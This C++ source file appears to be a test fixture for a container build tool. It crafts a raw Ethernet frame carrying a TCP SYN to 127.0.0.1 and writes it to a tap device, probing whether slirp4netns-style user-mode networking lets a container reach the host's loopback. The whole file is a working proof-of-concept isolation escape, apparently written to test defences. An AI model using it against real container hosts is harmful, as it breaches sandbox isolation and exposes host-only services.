// A hostile RUN's tool (static, so it runs in the busybox image): with CAP_NET_RAW, which
// Docker's default set grants, it writes an Ethernet frame carrying a TCP SYN for
// 127.0.0.1:PORT straight to the tap device of the private network, past the kernel's routing
// (which would keep 127.0.0.1 on `lo`). A user-mode stack that opens a host socket for every
// SYN it sees would then connect to the host's loopback.
//
//   loopback_syn_frame PORT     prints "sent" once the frame is written; without a tap device
//                               (the host network) it connects to 127.0.0.1:PORT plainly.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>

namespace {

std::uint16_t checksum(const void* data, std::size_t size, std::uint32_t sum = 0) {
  const auto* bytes = static_cast<const std::uint8_t*>(data);
  for (std::size_t i = 0; i + 1 < size; i += 2)
    sum += static_cast<std::uint32_t>(bytes[i] << 8 | bytes[i + 1]);
  if (size % 2) sum += static_cast<std::uint32_t>(bytes[size - 1] << 8);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons(static_cast<std::uint16_t>(~sum));
}

int connect_plainly(std::uint16_t port) {
  const int fd = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(port);
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  const bool reached = connect(fd, reinterpret_cast<sockaddr*>(&to), sizeof to) == 0;
  std::puts(reached ? "connected plainly" : "no tap device, plain connect refused");
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 2) return 2;
  const auto port = static_cast<std::uint16_t>(std::atoi(argv[1]));
  const int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
  if (fd < 0) {
    std::perror("socket(AF_PACKET)");
    return 1;
  }
  ifreq request{};
  std::strncpy(request.ifr_name, "tap0", IFNAMSIZ - 1);
  if (ioctl(fd, SIOCGIFINDEX, &request) != 0) return connect_plainly(port);
  const int index = request.ifr_ifindex;
  if (ioctl(fd, SIOCGIFHWADDR, &request) != 0) {
    std::perror("SIOCGIFHWADDR");
    return 1;
  }

  struct [[gnu::packed]] Frame {
    ether_header ethernet;
    iphdr ip;
    tcphdr tcp;
  } frame{};
  // slirp4netns's gateway (10.0.2.2) answers as 52:55:0a:00:02:02.
  const std::uint8_t gateway[ETH_ALEN] = {0x52, 0x55, 0x0a, 0x00, 0x02, 0x02};
  std::memcpy(frame.ethernet.ether_dhost, gateway, ETH_ALEN);
  std::memcpy(frame.ethernet.ether_shost, request.ifr_hwaddr.sa_data, ETH_ALEN);
  frame.ethernet.ether_type = htons(ETHERTYPE_IP);
  frame.ip.version = 4;
  frame.ip.ihl = 5;
  frame.ip.tot_len = htons(sizeof frame.ip + sizeof frame.tcp);
  frame.ip.ttl = 64;
  frame.ip.protocol = IPPROTO_TCP;
  inet_pton(AF_INET, "10.0.2.100", &frame.ip.saddr);
  frame.ip.daddr = htonl(INADDR_LOOPBACK);
  frame.ip.check = checksum(&frame.ip, sizeof frame.ip);
  frame.tcp.source = htons(40000);
  frame.tcp.dest = htons(port);
  frame.tcp.seq = htonl(1);
  frame.tcp.doff = 5;
  frame.tcp.syn = 1;
  frame.tcp.window = htons(65535);
  struct [[gnu::packed]] {
    std::uint32_t source, destination;
    std::uint8_t zero, protocol;
    std::uint16_t length;
  } pseudo{frame.ip.saddr, frame.ip.daddr, 0, IPPROTO_TCP, htons(sizeof frame.tcp)};
  std::uint32_t sum = 0;
  const auto* p = reinterpret_cast<const std::uint8_t*>(&pseudo);
  for (std::size_t i = 0; i < sizeof pseudo; i += 2)
    sum += static_cast<std::uint32_t>(p[i] << 8 | p[i + 1]);
  frame.tcp.check = checksum(&frame.tcp, sizeof frame.tcp, sum);

  sockaddr_ll to{};
  to.sll_family = AF_PACKET;
  to.sll_ifindex = index;
  to.sll_halen = ETH_ALEN;
  std::memcpy(to.sll_addr, gateway, ETH_ALEN);
  if (sendto(fd, &frame, sizeof frame, 0, reinterpret_cast<sockaddr*>(&to), sizeof to) !=
      static_cast<ssize_t>(sizeof frame)) {
    std::perror("sendto");
    return 1;
  }
  std::puts("sent");
  usleep(500 * 1000);  // time for the stack to act on it while the namespace still exists
  return 0;
}
